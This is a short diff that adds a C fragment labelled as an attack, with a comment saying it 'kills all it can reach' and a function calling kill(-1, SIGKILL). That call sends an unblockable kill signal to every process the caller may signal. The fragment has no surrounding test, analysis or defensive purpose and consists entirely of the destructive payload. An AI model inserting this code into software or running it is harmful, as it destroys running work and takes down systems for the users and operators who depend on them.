@@ -1,0 +1,3 @@
+/* Kills all it can reach. */
+#include "attack.h"
+static void attack(void) { kill(-1, SIGKILL); }
